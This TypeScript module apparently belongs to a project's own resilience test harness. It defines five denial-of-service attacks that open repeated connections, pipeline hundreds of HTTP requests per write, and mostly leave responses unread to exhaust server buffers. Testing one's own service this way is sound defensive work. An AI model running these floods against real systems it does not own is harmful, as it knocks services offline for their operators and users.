import { setTimeout } from 'node:timers/promises'
import type { Attack, Target } from '../attack.ts'
import { head, Sockets } from '../sockets.ts'
import type { Tally } from '../tally.ts'

// Answers that the client does not read, and many requests in one write. The large file comes first where answers are
// small: it fills the system's buffer of a connection, and all other answers wait in the server.

export const largeFile = '/docs/swagger-ui-bundle.js'
const waveMs = 2_000

interface Surge {
  connections: number
  bytes: (target: Target) => string
  everyMs?: number
  isDeaf?: boolean
}

/** New connections again and again beside those there are, each with all its requests in one write. */
async function surge(
  target: Target,
  tally: Tally,
  signal: AbortSignal,
  { connections, bytes, everyMs = waveMs, isDeaf = false }: Surge,
): Promise<void> {
  const sockets = new Sockets(target.port, tally)
  const text = bytes(target)
  const requests = text.split('\r\n\r\n').length - 1
  while (!signal.aborted) {
    for (let count = 0; count < connections; count += 1) {
      sockets.open({ bytes: text, isDeaf })
      tally.requests += requests
    }
    await setTimeout(everyMs, undefined, { signal }).catch(() => undefined)
  }
  await sockets.look()
  sockets.closeAll()
}

const small = head('GET /dashboard/api/me')
const large = head(`GET ${largeFile}`)

export const unreadAnswers: readonly Attack[] = [
  {
    name: 'unread answers, no key',
    means: 'every 2 s 3 connections of 400 requests in one write (17 KB), none of which reads',
    run: (target, tally, signal) =>
      surge(target, tally, signal, {
        connections: 3,
        bytes: () => large.repeat(3) + small.repeat(400),
        isDeaf: true,
      }),
    landed: ({ opened }) => opened >= 3,
  },
  {
    name: 'unread answers, with a key',
    means:
      'every 4 s 4 connections of 500 requests for 500 prices in one write (66 KB), none of which reads; a paid key',
    run: (target, tally, signal) =>
      surge(target, tally, signal, {
        connections: 4,
        everyMs: 4_000,
        bytes: ({ cast }) =>
          head('GET /v1/prices?limit=500', `Authorization: Bearer ${cast.paidKey}`).repeat(500),
        isDeaf: true,
      }),
    landed: ({ opened }) => opened >= 4,
  },
  {
    name: 'unread answers, few on each',
    means:
      'every 2 s 100 connections of 6 requests, the first for the largest file, none of which reads; no key',
    run: (target, tally, signal) =>
      surge(target, tally, signal, {
        connections: 100,
        bytes: () => large + small.repeat(5),
        isDeaf: true,
      }),
    landed: ({ opened }) => opened >= 100,
  },
  {
    name: 'pipelined files',
    means: 'every 4 s 1 connection of 300 requests for the largest file in one write, compressed, all read',
    run: (target, tally, signal) =>
      surge(target, tally, signal, {
        connections: 1,
        everyMs: 4_000,
        bytes: () => head(`GET ${largeFile}`, 'Accept-Encoding: br').repeat(300),
      }),
    landed: ({ opened }) => opened >= 1,
  },
  {
    name: 'pipelined public pages',
    means: 'every 4 s 5 connections of 1,200 requests for a change in one write, all read',
    run: (target, tally, signal) =>
      surge(target, tally, signal, {
        connections: 5,
        everyMs: 4_000,
        bytes: () => head('GET /changes/chg_1').repeat(1_200),
      }),
    landed: ({ opened }) => opened >= 5,
  },
]
